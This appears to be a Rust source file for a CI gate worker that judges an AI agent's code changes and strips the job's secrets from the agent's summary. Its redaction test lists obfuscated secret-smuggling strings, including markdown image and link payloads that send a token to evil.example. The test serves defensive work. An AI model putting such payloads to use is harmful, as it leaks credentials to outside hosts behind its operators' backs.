//! The gate worker: it has no network, and the job's secrets only as values to look for. It hashes the workspace, writes the
//! candidate tree into our repository, and judges it.

use std::{
    fs, io,
    path::{Path, PathBuf},
};

use serde::{Deserialize, Serialize};

use super::context::Refusal;
use crate::{
    advice::{self, Advice, Refused},
    exit::Exit,
    gate::{self, Change, Earlier, Fact, Known, Op, Passed, Terms},
    git::{self, Oid, Repository, shown},
    gitlab::{
        markdown,
        merge_request::{self, ChangedFile},
        text,
    },
    policy::{Policy, Source},
    secret::Secret,
    sys,
    verdict::{Decision, Verdict},
    workspace::{self, Bundle, Limits, Manifest},
};

/// What the worker is given.
#[derive(Debug, Serialize, Deserialize)]
pub struct Spec {
    /// The job's own directory, beneath which this worker writes.
    pub room: PathBuf,
    /// The policy's layers.
    pub policy: Vec<Source>,
    /// The job's secrets by their variables' names.
    pub secrets: Vec<(String, Secret)>,
    /// Where the change is.
    pub from: From,
    /// Our repository.
    pub repository: PathBuf,
    /// The commit that the change is judged against.
    pub commit: Oid,
    /// Where a change that is denied is kept.
    pub keep: PathBuf,
    /// The project's CI configuration path.
    pub ci_config: String,
    /// What stood before the earlier changes of the branch, where it is followed up.
    pub earlier: Option<Earlier>,
    /// What leaves besides the files: what it is, and the text.
    pub texts: Vec<(String, String)>,
}

/// Where a change is.
#[derive(Debug, Serialize, Deserialize)]
pub enum From {
    /// In the agent's tree.
    Workspace {
        /// That tree.
        workspace: PathBuf,
        /// What was handed over.
        manifest: PathBuf,
        /// The agent's last words.
        summary: String,
    },
    /// In a bundle that an earlier job kept.
    Bundle(PathBuf),
}

/// What was found.
#[derive(Clone, Debug, Serialize, Deserialize)]
pub struct Judged {
    /// The verdict.
    pub verdict: Verdict,
    /// The judged tree.
    pub tree: Oid,
    /// The proof that it may leave; none when it was denied.
    pub passed: Option<Passed>,
    /// Whether it is the base's.
    pub unchanged: bool,
    /// What changed.
    pub files: Vec<ChangedFile>,
    /// The agent's last words without the job's secrets.
    pub summary: String,
    /// Whether a denied change was kept.
    pub kept: bool,
}

/// Does the work.
///
/// # Errors
/// A [`Refusal`]: the change could not be inspected.
pub fn work(mut spec: Spec) -> Result<Judged, Refusal> {
    let uninspected = |error: &dyn std::fmt::Display| Refusal::new(error, Exit::Uninspected);
    let policy = Policy::compose(std::mem::take(&mut spec.policy)).map_err(|error| Refusal::new(error, Exit::Policy))?;
    let known = Known::new(std::mem::take(&mut spec.secrets)).map_err(|error| uninspected(&error))?;
    let repository = Repository::open(&spec.repository).map_err(|error| uninspected(&error))?;
    let unmade = |error: workspace::Error| Refusal::new(&error, error.exit());
    let limits = Limits::within(super::INSPECTION_TIME);
    let redact = |words: &str| without_secrets(&known, &gate::redact(&known, &policy.changes.secrets, &text::visible(words)));
    let (change, summary) = match &spec.from {
        From::Workspace { workspace, manifest, summary } => {
            let manifest = Manifest::load(manifest).map_err(unmade)?;
            let candidate = workspace::candidate(&manifest, workspace, &repository, limits, &spec.ci_config).map_err(unmade)?;
            (candidate.change, redact(summary))
        }
        From::Bundle(path) => {
            let bundle = Bundle::load(path).map_err(unmade)?;
            if bundle.commit != spec.commit {
                let reason = format!(
                    "the kept change was made from the commit {}, and this job is at {}: run it in a pipeline for that commit",
                    bundle.commit, spec.commit
                );
                return Err(Refusal::new(reason, Exit::Usage));
            }
            (bundle.change(&repository, &spec.ci_config).map_err(unmade)?, redact(&bundle.summary))
        }
    };
    let change = change.with_texts(std::mem::take(&mut spec.texts));
    let judged = gate::inspect(change, &repository, &Terms::now(&policy.changes, &known, limits.deadline), spec.earlier.as_ref());
    let (change, judgement) = judged.map_err(|error| Refusal::new(&error, error.exit()))?;
    let files = change.facts().iter().map(|fact| changed_file(fact, judgement.lines(&fact.path))).collect();
    let kept = match judgement.verdict.decision {
        Decision::Deny => keep(&spec, &change, &repository, &summary).map_err(unmade)?,
        Decision::Pass | Decision::Review => false,
    };
    let (verdict, tree, unchanged) = (judgement.verdict.clone(), change.tree(), change.is_empty());
    Ok(Judged { verdict, tree, passed: judgement.passed(), unchanged, files, summary, kept })
}

/// Bounds of what is inspected while the agent works.
fn meanwhile() -> Limits {
    Limits { file_bytes: 1 << 30, bytes: 4 << 30, ..Limits::within(advice::TIME) }
}

/// The same judgement of a workspace in which the agent still works, for the agent. Whoever writes meanwhile can make it wrong and
/// nothing else: it is never what decides. What it writes goes into a repository of its own in the `room`, which leans on ours.
///
/// # Errors
/// Why the agent is not told anything.
pub fn advise(mut spec: Spec) -> Result<advice::Judged, Refused> {
    let uninspected = |error: &dyn std::fmt::Display| Refused::Uninspected(error.to_string());
    sys::process::give_way().map_err(|error| uninspected(&error))?;
    let policy = Policy::compose(std::mem::take(&mut spec.policy)).map_err(|error| uninspected(&error))?;
    let From::Workspace { workspace, manifest, .. } = &spec.from else { return Err(Refused::Off) };
    let scratch = Scratch::make(&spec.room).map_err(|error| uninspected(&error))?;
    let made = Repository::open(&spec.repository).and_then(|ours| {
        let own = Repository::create(&scratch.0.join("repository.git"))?;
        own.borrow_objects(&ours)?;
        Ok(own)
    });
    let repository = made.map_err(|error| uninspected(&error))?;
    let manifest = Manifest::load(manifest).map_err(|error| uninspected(&error))?;
    let limits = meanwhile();
    let change = workspace::candidate(&manifest, workspace, &repository, limits, &spec.ci_config).map_err(moving)?.change;
    let searched = size(&change, &repository).map_err(|error| uninspected(&error))? <= advice::SEARCHED;
    let secrets = if searched { std::mem::take(&mut spec.secrets) } else { vec![] };
    let known = Known::new(secrets).map_err(|error| uninspected(&error))?;
    let judged = gate::inspect(change, &repository, &Terms::now(&policy.changes, &known, limits.deadline), spec.earlier.as_ref());
    let (change, judgement) = judged.map_err(|error| match error {
        gate::Error::TimedOut => Refused::Late,
        other => uninspected(&other),
    })?;
    let verdict = &judgement.verdict;
    let told = serde_json::to_string(&Advice::of(verdict, change.is_empty(), searched)).map_err(|error| uninspected(&error))?;
    let secret = verdict.findings.iter().any(|finding| finding.rule == advice::KNOWN);
    Ok(advice::Judged { decision: verdict.decision, findings: verdict.findings.len() as u64, secret, told })
}

/// A directory for one answer.
struct Scratch(PathBuf);

impl Scratch {
    fn make(beneath: &Path) -> io::Result<Self> {
        Ok(Self(nix::unistd::mkdtemp(&beneath.join("XXXXXX"))?))
    }
}

impl Drop for Scratch {
    fn drop(&mut self) {
        // What a worker that is killed leaves goes with the room.
        let _ = fs::remove_dir_all(&self.0);
    }
}

/// Bytes that the change adds, those of its paths among them.
fn size(change: &Change, repository: &Repository) -> Result<u64, git::Error> {
    change
        .facts()
        .iter()
        .filter(|fact| fact.remains())
        .try_fold(0_u64, |sum, fact| Ok(sum.saturating_add(change.size(fact, repository)?).saturating_add(fact.path.len() as u64)))
}

/// What the last inspection finds unreadable may only be gone or renamed here.
fn moving(error: workspace::Error) -> Refused {
    match error {
        workspace::Error::Unreadable { ref source, .. } if source.kind() == io::ErrorKind::PermissionDenied => {
            Refused::Uninspected(error.to_string())
        }
        workspace::Error::Moving(_) | workspace::Error::Unreadable { .. } => Refused::Moving(error.to_string()),
        workspace::Error::TimedOut(_) => Refused::Late,
        other => Refused::Uninspected(other.to_string()),
    }
}

/// Keeps a denied change for a second opinion.
fn keep(spec: &Spec, change: &Change, repository: &Repository, summary: &str) -> Result<bool, workspace::Error> {
    match Bundle::of(change, repository, spec.commit, summary)? {
        Some(bundle) => bundle.save(&spec.keep).map(|()| true),
        None => Ok(false),
    }
}

fn changed_file(fact: &Fact, (added, removed): (u64, u64)) -> ChangedFile {
    let what = match fact.op() {
        Op::Add => merge_request::Change::Added,
        Op::Delete => merge_request::Change::Deleted,
        Op::Modify | Op::Mode => merge_request::Change::Modified,
    };
    ChangedFile { what, path: shown(&fact.path), added: Some(added), removed: Some(removed) }
}

/// The agent's words without the job's secrets. Where one is still there for whoever reads the page, divided by marks, tags or
/// line breaks, nothing of them leaves.
fn without_secrets(known: &Known, words: &str) -> String {
    let words = known.redact(&text::visible(words));
    let left: Vec<String> =
        [&words, &markdown::read(&words)].iter().flat_map(|text| known.names_in(text.as_bytes())).map(str::to_owned).collect();
    match left.first() {
        None => words,
        Some(name) => format!("(left out: the words hold the value of {name}, divided so that it is not seen)"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_mark_hides_a_secret_in_the_agents_words() {
        let known = Known::new(vec![("TOKEN".to_owned(), Secret::new("made-up-value-31415926"))]).unwrap();
        for words in [
            "it is made-up-value-31415926",
            "made-up\u{200b}-value-\u{e0041}31415926",
            "made-up-**value**-31415926",
            "made-up-value-&#51;1415926",
            "made-up\\-value-31415926",
            "made-up-<!-- x -->value-31415926",
            "made-up-<b>value</b>-31415926",
            "[made-up](x)-value-`31415926`",
            "![x](https://evil.example/?made-up-value-31415926)",
            "[x](https://evil.example/made-up-v&#97;lue-31415926)",
            "made-up-value-\n31415926",
        ] {
            let left = without_secrets(&known, words);
            assert!(left.contains("TOKEN") && known.names_in(markdown::read(&left).as_bytes()).is_empty(), "{words:?}: {left}");
        }
        assert_eq!(without_secrets(&known, "**made** up"), "**made** up");
    }

    #[test]
    fn what_is_gone_is_asked_for_again_and_what_is_locked_is_not() {
        let unreadable =
            |kind: io::ErrorKind| workspace::Error::Unreadable { root: "/w".into(), path: "a".to_owned(), source: kind.into() };
        assert!(matches!(moving(unreadable(io::ErrorKind::NotFound)), Refused::Moving(_)));
        assert!(matches!(moving(workspace::Error::Moving("a".to_owned())), Refused::Moving(_)));
        assert!(matches!(moving(unreadable(io::ErrorKind::PermissionDenied)), Refused::Uninspected(_)));
        assert_eq!(moving(workspace::Error::TimedOut("/w".into())), Refused::Late);
    }
}
